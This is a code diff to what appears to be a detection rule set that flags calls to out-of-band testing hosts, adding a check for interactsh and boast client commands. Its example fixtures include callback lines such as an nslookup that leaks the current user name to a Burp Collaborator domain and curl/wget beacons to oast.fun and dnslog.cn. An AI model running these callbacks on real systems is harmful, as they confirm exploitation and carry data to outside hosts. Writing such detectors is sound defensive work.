@@ -45,10 +45,12 @@ export const RULES: readonly Rule[] = [
     why: 'OAST hosts exist to record that a payload ran and to carry data back; a developer workflow never calls them.',
     check: (i) => {
       const d = allDestinations(i).find((x) => x.kind === 'oast');
-      return d ? d.url ?? d.host : undefined;
+      // the interaction-server clients themselves
+      const client = (i.view?.commands ?? []).find((c) => c.name === 'interactsh-client' || c.name === 'interactsh' || c.name === 'boast');
+      return d ? d.url ?? d.host : client?.argv.join(' ');
     },
     examples: {
-      fire: ['curl http://c59h2k3.oast.fun', 'nslookup $(whoami).abc123.burpcollaborator.net', 'wget -q -O- http://x.dnslog.cn/', { Network: { method: 'GET', url: 'https://abc.interact.sh/' } }],
+      fire: ['interactsh-client -v -o /tmp/.oast', 'curl http://c59h2k3.oast.fun', 'nslookup $(whoami).abc123.burpcollaborator.net', 'wget -q -O- http://x.dnslog.cn/', { Network: { method: 'GET', url: 'https://abc.interact.sh/' } }],
       quiet: ['curl https://api.github.com/repos/x/y', 'dig example.com', 'curl http://localhost:8080/callback'],
     },
   },
